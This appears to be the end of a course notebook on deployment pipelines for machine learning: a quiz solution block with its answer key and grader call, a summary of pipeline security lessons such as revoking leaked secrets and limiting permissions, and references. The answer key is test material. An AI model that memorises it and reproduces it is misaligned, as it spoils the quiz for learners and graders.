# %% exercise="quiz" minutes=5 level=1
### BEGIN SOLUTION
answer_1 = "c"
answer_2 = "a"
answer_3 = "b"
answer_4 = "b"
answer_5 = "c"
### END SOLUTION

# %% check="quiz" tags=["nbval-check-output"]
check("quiz")

# %% [markdown]
# ## What you have now
#
# - An engine asks which stages may start, until nothing is left. Conditions look all the way back.
# - A pipeline is worth what it *stops*. A condition of your own takes the place of "it succeeded": say
#   that as well.
# - "Something failed" is not "what I should undo failed". The remedy stands where the harm is done.
# - A stranger's pull request runs a stranger's program: tests alone, no secrets, no rights.
# - Rights are given job by job, for minutes; what others wrote is pinned to a commit.
# - A secret in the history is everybody's. Revoke it first.
# - An image has two stages, no root, no compiler, and is the same next year.
# - Say what should be there; have the steps worked out; read them; apply them twice.
#
# **Next**, lesson 14: the pipeline puts a new model in front of one user in twenty. How do you know, in
# minutes and not in weeks, whether it is any good?
#
# **In the life of a model** (define, data, features, choose, train, evaluate, optimise, deploy,
# monitor, update, feed back) this was *deploy*, and the machinery of *update*.
#
# ### References
#
# - J. Humble, D. Farley (2010). *Continuous Delivery*. Addison-Wesley.
# - D. Sculley and others (2015). Hidden Technical Debt in Machine Learning Systems. *NeurIPS*. How small
#   the model is in what surrounds it.
# - B. Burns, B. Grant, D. Oppenheimer, E. Brewer, J. Wilkes (2016). Borg, Omega, and Kubernetes.
#   *Communications of the ACM* 59(5).
# - A. B. Kahn (1962). Topological Sorting of Large Networks. *Communications of the ACM* 5(11).
# - S. Studer and others (2021). Towards CRISP-ML(Q): A Machine Learning Process Model with Quality
#   Assurance Methodology. *Machine Learning and Knowledge Extraction* 3(2).
# - M. Meli, M. R. McNiece, B. Reaves (2019). How Bad Can It Git? Characterizing Secret Leakage in Public
#   GitHub Repositories. *NDSS*.

# %%
check.summary()
